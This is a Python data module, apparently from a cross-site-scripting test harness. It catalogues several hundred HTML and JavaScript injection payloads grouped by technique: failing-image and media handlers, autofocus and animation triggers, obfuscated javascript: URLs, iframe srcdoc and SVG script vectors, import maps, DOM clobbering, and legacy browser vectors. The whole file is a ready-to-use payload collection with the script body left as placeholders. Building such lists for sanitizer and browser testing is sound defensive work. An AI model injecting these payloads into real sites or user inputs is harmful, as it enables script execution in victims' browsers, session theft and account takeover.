"""Markup that runs the attacker's script: elements, handlers, addresses, frames, drawings."""

from __future__ import annotations

from itertools import product

# Handlers that a person's hand reaches; the test's hand does, too.
_BY_HAND = (
    "click", "dblclick", "auxclick", "contextmenu", "mousedown", "mouseup", "mouseover", "mousemove",
    "mouseenter", "pointerdown", "pointerover", "pointerenter", "pointermove", "keydown", "keyup",
    "focus", "focusin", "blur", "wheel", "copy", "cut", "paste", "dragstart", "dragover", "drop",
    "selectstart", "beforeinput", "input", "change",
)  # fmt: skip
_BY_ITSELF = [
    "<img src=x onerror=«J»>", "<img src onerror=«J»>", "<image src=x onerror=«J»>", "<img/src=x/onerror=«J»>",
    "<img\fsrc=x\fonerror=«J»>", "<img src=x onerror\n=\n«J»>", '<IMG SRC=x ONERROR="«J»">', "<img src=x:x onerror=«J»//",
    "<img src=x onerror=&#95;_hit&#40;'«J»'&#41 //>".replace("'«J»'", "1"),
    "<video src=x onerror=«J»></video>", "<video><source src=x onerror=«J»></video>", "<audio src=x onerror=«J»></audio>",
    "<video onloadstart=«J»><source src=x></video>", "<audio onloadstart=«J» src=x></audio>",
    "<picture><source srcset=x><img onerror=«J» src=x></picture>", "<input type=image src=x onerror=«J»>",
    "<object data=x:x onerror=«J»></object>", "<script src=x:x onerror=«J»></script>", "<link rel=stylesheet href=x:x onerror=«J»>",
    "<style onload=«J»></style>", "<link rel=stylesheet href=data:text/css, onload=«J»>", "<iframe onload=«J»></iframe>",
    "<iframe srcdoc=x onload=«J»></iframe>", "<embed src=data:text/html,x onload=«J»>", "<object data=data:text/html,x onload=«J»></object>",
    "<body onload=«J»>", "<body onpageshow=«J»>", "<body onfocus=«J»>", "<svg onload=«J»>", "<svg/onload=«J»>", "<svg><g onload=«J»></g></svg>",
    "<details open ontoggle=«J»>x</details>", "<details ontoggle=«J» open><summary>x</summary></details>",
    "<input autofocus onfocus=«J»>", "<button autofocus onfocus=«J»>x</button>", "<select autofocus onfocus=«J»></select>",
    "<textarea autofocus onfocus=«J»></textarea>", "<a href=# autofocus onfocus=«J»>x</a>", "<b tabindex=1 autofocus onfocus=«J»>x</b>",
    "<b contenteditable autofocus onfocus=«J»>x</b>", "<marquee onstart=«J»>x</marquee>", "<marquee loop=1 width=0 onfinish=«J»>x</marquee>",
    "<style>@keyframes k{}</style><b style='animation:k 1ms' onanimationstart=«J»>x</b>",
    "<style>@keyframes k{}</style><b style='animation:k 1ms' onanimationend=«J»>x</b>",
    "<b style='animation:k 1ms' onanimationstart=«J»>x</b><style>@keyframes k{to{color:red}}</style>",
    "<template shadowrootmode=open><img src=x onerror=«J»></template>",
    "<div><template shadowrootmode=open><script>«J»</script></template></div>",
]  # fmt: skip
_SCHEMES = [
    "javascript:«J»", "JaVaScRiPt:«J»", " javascript:«J»", "\tjavascript:«J»", "java\tscript:«J»", "java\nscript:«J»",
    "javascript&colon;«J»", "&#106;avascript:«J»", "&#x6a;avascript:«J»", "&#0000106avascript:«J»", "java&Tab;script:«J»",
    "java&NewLine;script:«J»", "javascript\t:«J»", "&#1;javascript:«J»", "&#x1F;javascript:«J»", "javascript://x%0a«J»",
    "javascript:/*x*/«J»", "javascript:void(«J»)", "javascript:%5f%5fhit('«J»')".replace("'«J»'", "1"), "&#14;javascript:«J»",
]  # fmt: skip
_FRAMED = [
    '<iframe src="javascript:parent.«J»"></iframe>', '<iframe srcdoc="<script>parent.«J»</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=parent.«J»&gt;"></iframe>', "<iframe srcdoc='<svg onload=parent.«K»>'></iframe>",
    "<iframe srcdoc='<body onload=parent.«K»>'></iframe>", "<iframe sandbox='allow-scripts allow-same-origin' srcdoc='<script>parent.«K»</script>'></iframe>",
    "<iframe srcdoc='<iframe srcdoc=\"&lt;script&gt;top.frames;parent.parent.«K»&lt;/script&gt;\"></iframe>'></iframe>",
    '<embed src="javascript:parent.«J»">', '<object data="javascript:parent.«J»"></object>',
    "<iframe src='java\tscript:parent.«K»'></iframe>", "<iframe src=' javascript:parent.«K»'></iframe>",
]  # fmt: skip
_DRAWN = [
    "<svg><script>«J»</script></svg>", "<svg><script>«J»<!-- </script></svg>", "<svg><script href='data:text/javascript,«K»'/></svg>",
    "<svg><script xlink:href='data:text/javascript,«K»'></script></svg>", "<svg><image href=x onerror=«J»>", "<svg><a href='javascript:«K»'><text y=9>x</text></a></svg>",
    "<svg><a xlink:href='javascript:«K»'><text y=9>x</text></a></svg>", "<svg><animate onbegin=«J» attributeName=x dur=1s>",
    "<svg><set onbegin=«J» attributeName=x dur=1s>", "<svg><animateTransform onbegin=«J» attributeName=transform dur=1s>",
    "<svg><animateMotion onbegin=«J» dur=1s path='M0,0L1,1'/>", "<svg><animate onend=«J» attributeName=x dur=1ms>",
    "<svg><a><animate attributeName=href values='javascript:«K»'/><text y=9>x</text></a></svg>",
    "<svg><a><set attributeName=href to='javascript:«K»'/><text y=9>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=«J»></foreignObject></svg>", "<svg><foreignObject><body onload=«J»></foreignObject></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.«K»</script>'></iframe></foreignObject></svg>",
    "<svg><desc><img src=x onerror=«J»></desc></svg>", "<svg><title><img src=x onerror=«J»></title></svg>",
    "<svg><p><img src=x onerror=«J»>", "<svg></p><style><a id='</style><img src=x onerror=«K»>'>", "<svg><style><img src=x onerror=«J»></style>",
]  # fmt: skip
_SCRIPTS = [
    "<script>«J»</script>", "<SCRIPT>«J»</SCRIPT>", "<script type=module>«J»</script>", "<script >«J»</script >", "<script/x>«J»</script/x>",
    "<script\n>«J»</script\n>", "<script type='text/javascript'>«J»</script>", "<script type=''>«J»</script>", "<script language=javascript>«J»</script>",
    "<script src=data:text/javascript,«J»></script>", "<script src='data:text/javascript;base64,⟦«J»⟧'></script>", "<script>«J»//", "<script><!--\n«J»\n--></script>",
    "<script>/*<script>*/«J»</script>", "<script defer src='data:,«K»'></script>", "<script async src='data:,«K»'></script>", "<script nomodule></script><script>«J»</script>",
    "<script>eval(atob('⟦«J»⟧'))</script>", '<script>setTimeout("«K»")</script>', "<script>\u2028«J»</script>", "<script>[1].map(_=>«J»)</script>",
    "<script>Function('«K»')()</script>", "<script>import('data:text/javascript,«K»')</script>", "<script>onerror=()=>«J»;throw 1</script>",
    "<script>alert('hit-'+`«J»`.slice(7,12))</script>", "<script>confirm('hit-'+`«J»`.slice(7,12))</script>", "<script>prompt('hit-'+`«J»`.slice(7,12))</script>",
]  # fmt: skip

TECHNIQUES: dict[str, list[str]] = {
    "script": _SCRIPTS[:8],
    "script from data": [_SCRIPTS[9], _SCRIPTS[10], *_SCRIPTS[14:16], _SCRIPTS[22]],
    "script unended or in comments": _SCRIPTS[11:14],
    "script made of text": [*_SCRIPTS[16:22], _SCRIPTS[23]],
    "dialog": _SCRIPTS[24:],
    "picture that fails": _BY_ITSELF[:8],
    "sound and film that fail": _BY_ITSELF[9:14],
    "picture, button, object that fail": _BY_ITSELF[14:19],
    "style and link that load": _BY_ITSELF[19:21],
    "frame and object that load": _BY_ITSELF[21:25],
    "body handlers": _BY_ITSELF[25:28],
    "drawing that loads": _BY_ITSELF[28:31],
    "details that open": _BY_ITSELF[31:33],
    "autofocus": _BY_ITSELF[33:39],
    "contenteditable": [_BY_ITSELF[39], "<div contenteditable tabindex=0 onfocus=«J»>x</div>"],
    "marquee": _BY_ITSELF[40:42],
    "animation": _BY_ITSELF[42:45],
    "declarative shadow": _BY_ITSELF[45:],
    "handlers by hand": [f'<b tabindex=0 on{name}="«J»">press</b>' for name in _BY_HAND],
    "handlers by hand, other elements": [
        f"<{element} on{name}=«J»>x" for element, name in product(("x-y", "a", "p", "td", "font"), ("click", "mouseover"))
    ],
    "javascript address": [f'<a href="{address}">press</a>' for address in _SCHEMES],
    "javascript address, other elements": [
        "<form action='javascript:«K»'><input type=submit></form>", "<form><button formaction='javascript:«K»'>x</button></form>",
        "<form id=f></form><input type=submit form=f formaction='javascript:«K»'>", "<map name=m><area shape=default href='javascript:«K»'></map><img usemap=#m src=x>",
        "<form><input type=image src=x formaction='javascript:«K»'></form>", "<isindex action='javascript:«K»'><form action='javascript:«K»'><button>x</button></form>",
        "<math><a href='javascript:«K»'>x</a></math><a href='javascript:«K»'>x</a>", "<base href='javascript:/a/-«K»;//'><a href='javascript:«K»'>x</a>",
    ],
    "frame with script": _FRAMED[:7],
    "object with script": ["<object data='data:text/html,<script>top.x</script>'></object><img src=x onerror=«J»>"],
    "frame address in disguise": _FRAMED[9:],
    "drawing with script": _DRAWN[:5],
    "drawing with link": _DRAWN[5:7],
    "drawing that moves": _DRAWN[7:12],
    "drawing that changes a link": _DRAWN[12:14],
    "foreignObject": _DRAWN[14:17],
    "drawing that ends": _DRAWN[17:20],
    "dialog element": ["<dialog open><img src=x onerror=«J»></dialog>", "<dialog open onclick=«J»>x</dialog>", "<dialog open><form method=dialog onsubmit=«J»><button>x</button></form></dialog>"],
    "popover": ["<div popover id=x onbeforetoggle=«J»>x</div><button popovertarget=x>press</button>", "<div popover id=x ontoggle=«J»>x</div><button popovertarget=x>press</button>"],
    "commands": ["<button commandfor=d command=show-modal>press</button><dialog id=d onbeforetoggle=«J»>x</dialog>", "<button commandfor=d command=--x>press</button><div id=d oncommand=«J»>x</div>"],
    "import map": ["<script type=importmap>{\"imports\":{\"a\":\"data:text/javascript,«K»\"}}</script><script type=module>import 'a'</script>"],
    "clobbering": [
        "<form id=__x><input name=action></form><script>document.forms[0].action.name&&«J»</script>",
        "<a id=config></a><a id=config name=url href='x:«K»'></a><script>eval((''+config.url).slice(2))</script>",
        "<img name=cookie><script>document.cookie.tagName&&«J»</script>",
    ],
}  # fmt: skip
ASLEEP = [
    "<img src='javascript:«K»'>", "<body background='javascript:«K»'>", "<div style='width:expression(«K»)'>", '<div style="-moz-binding:url(«U»)">',
    "<link rel=stylesheet href='javascript:«K»'>", "<bgsound src='javascript:«K»'>", "<a href='vbscript:msgbox(1)'>x</a>", "<img dynsrc='javascript:«K»'>",
    "<xml id=x><a><![CDATA[<script>«K»</script>]]></a></xml>", "<applet code=x onerror=«J»></applet>", "<portal src='«U»'></portal>", "<meta http-equiv=refresh content='0;url=javascript:«K»'>",
    '<img src="livescript:«K»">', "<xss style=behavior:url(«U»)>", "<iframe src='vbscript:x'></iframe>", "<a href='data:text/html,<script>opener.«K»</script>'>x</a>", _FRAMED[7], _FRAMED[8],
    "<button popovertarget=x>x</button><xmp popover id=x onbeforetoggle=«J»>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>1</script></svg>#x'/></svg>",
]  # fmt: skip
